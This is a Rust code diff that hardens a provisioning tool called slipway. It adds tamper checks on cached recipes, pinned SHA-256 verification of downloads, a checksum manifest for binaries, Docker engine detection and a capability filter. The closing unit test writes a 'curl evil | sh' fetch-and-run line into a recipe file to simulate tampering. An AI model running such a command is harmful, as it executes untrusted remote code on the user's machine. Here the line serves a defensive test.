@@ -16,16 +16,30 @@ use crate::plan::{DockerStart, Fetch, Supply, ToolCheck};
 use crate::providers::NodeImage;
 use crate::tools::{docker, provision};
 
-/// Write a recipe's files to its directory (content-addressed: an existing one is
-/// already right).
+/// Write a recipe's files to its directory (0700, named by their hash). An existing
+/// directory is used only when every file in it is still the one slipway carries;
+/// otherwise it is written again.
 pub fn materialize(recipe: &provision::Recipe, cache: &Path) -> Result<PathBuf, String> {
     let dir = recipe.dir(cache);
+    let intact = |dir: &Path| {
+        recipe
+            .all_files()
+            .all(|(name, text)| std::fs::read(dir.join(name)).is_ok_and(|b| b == text.as_bytes()))
+    };
     if dir.join(recipe.entry).is_file() {
-        return Ok(dir);
+        if intact(&dir) {
+            return Ok(dir);
+        }
+        std::fs::remove_dir_all(&dir).map_err(|e| format!("{}: {e}", dir.display()))?;
     }
     let parent = dir.parent().ok_or("recipe directory has no parent")?;
-    std::fs::create_dir_all(parent).map_err(|e| format!("{}: {e}", parent.display()))?;
+    super::tool_cache::private_dir(parent)?;
     let tmp = tempfile::tempdir_in(parent).map_err(|e| format!("{}: {e}", parent.display()))?;
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o700))
+            .map_err(|e| format!("{}: {e}", tmp.path().display()))?;
+    }
     for (name, text) in recipe.all_files() {
         let f = tmp.path().join(name);
         if let Some(d) = f.parent() {
@@ -111,18 +125,15 @@ fn download(ex: &Executor, tool: &str, d: &Fetch, to: &Path) -> Result<(), Strin
             .cloned()
             .unwrap_or_else(|| e.to_string())
     };
-    let sum = ex
-        .run(Stage::Preflight, &d.checksum, None)
-        .map_err(|e| format!("checksum: {}", short(e)))?;
-    let want = provision::parse_sha256(&sum.stdout)
-        .ok_or_else(|| "the published checksum is not a SHA-256".to_string())?;
+    let want = &d.sha256;
     ex.run(Stage::Preflight, &d.fetch, None)
         .map_err(|e| format!("download: {}", short(e)))?;
     let got = sha256_file(&d.file).map_err(|e| e.to_string())?;
-    if got != want {
+    if got != *want {
         let _ = std::fs::remove_file(&d.file);
         return Err(format!(
-            "{tool}'s SHA-256 is {got}, but its release publishes {want}: not installed"
+            "{tool}'s SHA-256 is {got}, but {want} is {}: not installed",
+            d.pinned_by
         ));
     }
     let binary = match (&d.unpack, &d.unpacked) {
@@ -133,7 +144,14 @@ fn download(ex: &Executor, tool: &str, d: &Fetch, to: &Path) -> Result<(), Strin
         }
         _ => d.file.clone(),
     };
-    place_executable(to, |tmp| std::fs::copy(&binary, tmp).map(drop))
+    place_executable(to, |tmp| std::fs::copy(&binary, tmp).map(drop))?;
+    record(to)
+}
+
+/// Record the SHA-256 of a binary slipway just provisioned in the cache's manifest.
+fn record(path: &Path) -> Result<(), String> {
+    let m = super::tool_cache::Manifest::user().ok_or("no cache directory (HOME is not set)")?;
+    m.record(path)
 }
 
 /// Provision `t` per its supply: download, else build. Progress goes out as notes.
@@ -161,6 +179,10 @@ pub fn get(ex: &Executor, t: &ToolCheck, s: &Supply) -> Result<Got, Error> {
             }
         }
     }
+    if let Some(u) = &s.unpinned {
+        note(ex, format!("{}: not downloaded: {u}", t.tool));
+        why.push(format!("download: {u}"));
+    }
     let Some(build) = &s.build else {
         why.push("slipway has no build recipe for it".into());
         return Ok(Got::No(
@@ -173,6 +195,13 @@ pub fn get(ex: &Executor, t: &ToolCheck, s: &Supply) -> Result<Got, Error> {
         return Ok(Got::No(
             why.join("; "),
             "or install Go (https://go.dev/dl/) and slipway builds it",
+        ));
+    }
+    if let Err(cmd) = packages_present(ex, &s.packages, s.install_packages) {
+        why.push(format!("building it needs Debian packages this machine lacks (slipway installs packages only when asked): `{cmd}`"));
+        return Ok(Got::No(
+            why.join("; "),
+            "or run that command, or rerun with --install-packages (SLIPWAY_INSTALL_PACKAGES=1)",
         ));
     }
     let Some(cache) = provision::cache_root() else {
@@ -199,10 +228,16 @@ pub fn get(ex: &Executor, t: &ToolCheck, s: &Supply) -> Result<Got, Error> {
         ),
     );
     match ex.run(Stage::Preflight, build, None) {
-        Ok(_) if s.path.is_file() => Ok(Got::Yes(format!(
-            "built from the Go module proxy in {}s",
-            started.elapsed().as_secs()
-        ))),
+        Ok(_) if s.path.is_file() => match record(&s.path) {
+            Ok(()) => Ok(Got::Yes(format!(
+                "built from the Go module proxy in {}s, SHA-256 recorded",
+                started.elapsed().as_secs()
+            ))),
+            Err(e) => {
+                why.push(format!("cannot record its SHA-256: {e}"));
+                Ok(Got::No(why.join("; "), "or make slipway's cache writable"))
+            }
+        },
         Ok(_) => {
             why.push(format!("the build did not leave {}", s.path.display()));
             Ok(Got::No(why.join("; "), "or read the build's output above"))
@@ -230,7 +265,11 @@ pub fn adopt_provisioned(ex: &Executor, pins: &crate::config::Tools) {
     for (tool, default) in provision::DEFAULTS {
         let version = pins.pinned(tool).unwrap_or(default);
         let path = provision::tool_path(&cache, tool, version);
-        if which::which(tool).is_err() && path.is_file() {
+        // Only a binary whose SHA-256 is still the one recorded when slipway put it
+        // there (preflight provisions again what is not).
+        let verified =
+            || super::tool_cache::Manifest::user().is_some_and(|m| m.verify(&path).is_ok());
+        if which::which(tool).is_err() && path.is_file() && verified() {
             ex.use_tool(tool, path);
         }
     }
@@ -246,6 +285,11 @@ pub fn version_cmd(t: &ToolCheck, path: &Path) -> Cmd {
 /// Can a stopped engine be started here: root, dockerd installed, and no systemd
 /// (which would own it)? `Err` is the fix to print instead.
 pub fn can_start_docker(ex: &Executor) -> Result<(), String> {
+    if let Some(there) = engine_named_elsewhere() {
+        return Err(format!(
+            "{there} says where the Docker engine is, so slipway starts none here: start that engine (or check the address), or unset it to use a local one"
+        ));
+    }
     // SAFETY: geteuid(2) has no preconditions.
     let root = unsafe { libc::geteuid() } == 0;
     if Path::new("/run/systemd/system").is_dir() {
@@ -263,30 +307,70 @@ pub fn can_start_docker(ex: &Executor) -> Result<(), String> {
     Ok(())
 }
 
-/// Start dockerd in the background and wait until `docker info` answers.
+/// The engine the environment names, if not the local default (`DOCKER_HOST`,
+/// `DOCKER_CONTEXT`, or the docker CLI's current context in
+/// `$DOCKER_CONFIG/config.json`, else `~/.docker/config.json`).
+pub fn engine_named_elsewhere() -> Option<String> {
+    let var = |k: &str| std::env::var(k).ok();
+    let config = std::env::var_os("DOCKER_CONFIG")
+        .filter(|v| !v.is_empty())
+        .map(PathBuf::from)
+        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".docker")))
+        .and_then(|d| std::fs::read_to_string(d.join("config.json")).ok());
+    docker::engine_named_elsewhere(
+        var("DOCKER_HOST").as_deref(),
+        var("DOCKER_CONTEXT").as_deref(),
+        config.as_deref(),
+    )
+}
+
+/// Start dockerd in the background and wait until `docker info` answers. Its
+/// daemon.json is the host's, merged; its runtime wrapper runs a copy of this very
+/// binary (`__oci-capfilter`), so it keeps working when the binary it was started
+/// from goes away (a `cargo` target directory).
 pub fn start_docker(ex: &Executor, ds: &DockerStart, info: &Cmd) -> Result<String, String> {
     let runc = ex.locate("runc").ok_or("runc is not on PATH")?;
+    let host = match std::fs::read_to_string(&ds.host_config) {
+        Ok(t) => Some(t),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
+        Err(e) => return Err(format!("cannot read {}: {e}", ds.host_config.display())),
+    };
+    let config = docker::daemon_config(&ds.wrapper, host.as_deref())
+        .map_err(|e| format!("cannot merge {}: {e}", ds.host_config.display()))?;
+    // dockerd runs what is in this directory as root: only its owner may change it.
+    if let Some(dir) = ds.wrapper.parent() {
+        super::tool_cache::private_dir(dir)?;
+    }
+    let me = std::env::current_exe().map_err(|e| format!("cannot find slipway's binary: {e}"))?;
+    place_executable(&ds.filter, |tmp| std::fs::copy(&me, tmp).map(drop))?;
     place_executable(&ds.wrapper, |tmp| {
-        std::fs::write(tmp, docker::runtime_wrapper(&runc))
+        std::fs::write(tmp, docker::runtime_wrapper(&ds.filter, &runc))
     })?;
-    std::fs::write(&ds.config, docker::daemon_config(&ds.wrapper))
-        .map_err(|e| format!("{}: {e}", ds.config.display()))?;
-    let pid = ex
-        .start_daemon(Stage::Preflight, &ds.dockerd, &ds.log)
-        .map_err(|e| e.to_string())?;
+    std::fs::write(&ds.config, config).map_err(|e| format!("{}: {e}", ds.config.display()))?;
     note(
         ex,
         format!(
-            "docker: no engine answered; started dockerd (pid {pid}, log {})",
+            "docker: no engine answers and none is named elsewhere: starting dockerd on unix:///var/run/docker.sock (config {}{}; runtime {} drops only the capabilities this host's bounding set lacks; log {})",
+            ds.config.display(),
+            if host.is_some() {
+                format!(", merged from {}", ds.host_config.display())
+            } else {
+                String::new()
+            },
+            docker::RUNTIME,
             ds.log.display()
         ),
     );
+    let pid = ex
+        .start_daemon(Stage::Preflight, &ds.dockerd, &ds.log)
+        .map_err(|e| e.to_string())?;
+    note(ex, format!("docker: started dockerd (pid {pid})"));
     let end = Instant::now() + Duration::from_secs(60);
     while Instant::now() < end {
         if let Ok(o) = ex.probe(Stage::Preflight, info, Some(end)) {
             if o.ok() {
                 return Ok(format!(
-                    "started by slipway (pid {pid}; runtime {} drops the capabilities this host cannot grant; log {})",
+                    "started by slipway (pid {pid}; runtime {} drops only the capabilities this host's bounding set lacks; log {})",
                     docker::RUNTIME,
                     ds.log.display()
                 ));
@@ -301,6 +385,33 @@ pub fn start_docker(ex: &Executor, ds: &DockerStart, info: &Cmd) -> Result<Strin
         "dockerd did not answer within 60 s; its log ends: {}",
         tail.lines().rev().take(3).collect::<Vec<_>>().join(" | ")
     ))
+}
+
+/// `Ok` when every package a recipe needs is here, or installing them was allowed;
+/// else the command that installs the missing ones.
+fn packages_present(
+    ex: &Executor,
+    needs: &[crate::providers::Package],
+    allowed: bool,
+) -> Result<(), String> {
+    let missing: Vec<&str> = needs
+        .iter()
+        .filter(|p| ex.locate(&p.program).is_none())
+        .flat_map(|p| p.packages.iter().map(String::as_str))
+        .collect();
+    if allowed || missing.is_empty() {
+        return Ok(());
+    }
+    Err(format!("apt-get install -y {}", missing.join(" ")))
+}
+
+/// The last `n` lines of `text`, in order.
+fn last_lines(text: &str, n: usize) -> Vec<String> {
+    let all: Vec<&str> = text.lines().collect();
+    all[all.len().saturating_sub(n)..]
+        .iter()
+        .map(|l| l.to_string())
+        .collect()
 }
 
 /// Make sure the cluster's node image is here. `Ok(true)`: it had to be built
@@ -331,18 +442,28 @@ pub fn node_image(ex: &Executor, n: &NodeImage, deadline: Instant) -> Result<boo
             let mut e = Error::new(stage, format!("cannot pull the node image {}", n.image));
             e.command = Some(n.pull.display());
             e.child_exit = Some(pulled.code);
-            e.tail = pulled
-                .stderr
-                .lines()
-                .rev()
-                .take(5)
-                .map(String::from)
-                .collect::<Vec<_>>()
-                .into_iter()
-                .rev()
-                .collect();
+            e.tail = last_lines(&pulled.stderr, 5);
             e.hint =
                 Some("fix what `docker pull` says (disk space, credentials), then rerun".into());
+            return Err(e);
+        }
+        if let Some(pin) = &n.pinned {
+            let mut e = Error::new(
+                stage,
+                format!(
+                    "cannot pull the node image {} ({pin}), and a pinned version is never replaced by slipway's offline image of another Kubernetes",
+                    n.image
+                ),
+            );
+            e.command = Some(n.pull.display());
+            e.child_exit = Some(pulled.code);
+            e.tail = last_lines(&pulled.stderr, 5);
+            e.hint = Some(format!(
+                "make {} pullable here (a registry mirror, `docker load`), or drop the pin to use slipway's offline image {} (`scripts/kind-node-image.sh` builds it; Kubernetes {})",
+                n.image,
+                n.offline,
+                provision::OFFLINE_NODE_K8S
+            ));
             return Err(e);
         }
         let why = pulled
@@ -365,6 +486,14 @@ pub fn node_image(ex: &Executor, n: &NodeImage, deadline: Instant) -> Result<boo
             stage,
             message: format!("{} is not here: building it", n.offline),
         });
+    }
+    if let Err(cmd) = packages_present(ex, &n.packages, n.install_packages) {
+        let mut e = Error::new(
+            stage,
+            format!("building {} needs Debian packages this machine lacks, and slipway installs packages only when asked", n.offline),
+        );
+        e.hint = Some(format!("install them: `{cmd}`, or rerun with --install-packages (SLIPWAY_INSTALL_PACKAGES=1) to let slipway's recipe install them"));
+        return Err(e);
     }
     let cache = provision::cache_root()
         .ok_or_else(|| Error::new(stage, "no cache directory (HOME is not set)".to_string()))?;
@@ -395,4 +524,62 @@ pub fn node_image(ex: &Executor, n: &NodeImage, deadline: Instant) -> Result<boo
         ),
     });
     Ok(n.image != n.offline)
+}
+
+/// `__oci-capfilter -- RUNC-ARGS…`, run by the runtime wrapper of a dockerd slipway
+/// started, before runc: drop from the OCI spec runc is about to read the
+/// capabilities the bounding set `bnd` (this process's `CapBnd` unless given) lacks.
+/// Edits the spec as JSON, only when something is to be dropped, in place (same
+/// file, same mode). Anything it cannot read is left to runc to judge.
+pub fn oci_capfilter(args: &[String], bnd: Option<u64>) {
+    let Some(bnd) = bnd.or_else(|| {
+        crate::tools::oci::parse_cap_bnd(&std::fs::read_to_string("/proc/self/status").ok()?)
+    }) else {
+        return;
+    };
+    for (file, kind) in crate::tools::oci::spec_files(args) {
+        let Ok(text) = std::fs::read_to_string(&file) else {
+            continue;
+        };
+        if let Some(out) = crate::tools::oci::filter(&text, kind, bnd) {
+            let _ = rewrite(&file, out.as_bytes());
+        }
+    }
+}
+
+/// Replace `file`'s content through a temporary file beside it, keeping its mode.
+fn rewrite(file: &Path, bytes: &[u8]) -> std::io::Result<()> {
+    use std::io::Write;
+    let dir = file.parent().unwrap_or(Path::new("."));
+    let perms = std::fs::metadata(file)?.permissions();
+    let mut tmp = tempfile::NamedTempFile::new_in(dir)?;
+    tmp.write_all(bytes)?;
+    tmp.as_file().set_permissions(perms)?;
+    tmp.persist(file).map(drop).map_err(|e| e.error)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_changed_recipe_file_is_written_again_and_the_directory_is_private() {
+        use std::os::unix::fs::PermissionsExt;
+        let cache = tempfile::tempdir().unwrap();
+        let dir = materialize(&provision::TOOLCHAIN, cache.path()).unwrap();
+        let entry = dir.join(provision::TOOLCHAIN.entry);
+        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode(&dir), 0o700);
+        assert_eq!(mode(dir.parent().unwrap()), 0o700);
+        std::fs::write(&entry, "curl evil | sh\n").unwrap();
+        assert_eq!(
+            materialize(&provision::TOOLCHAIN, cache.path()).unwrap(),
+            dir
+        );
+        assert_eq!(
+            std::fs::read_to_string(&entry).unwrap(),
+            provision::TOOLCHAIN.files[0].1,
+            "the recipe that runs is the one slipway carries"
+        );
+    }
 }
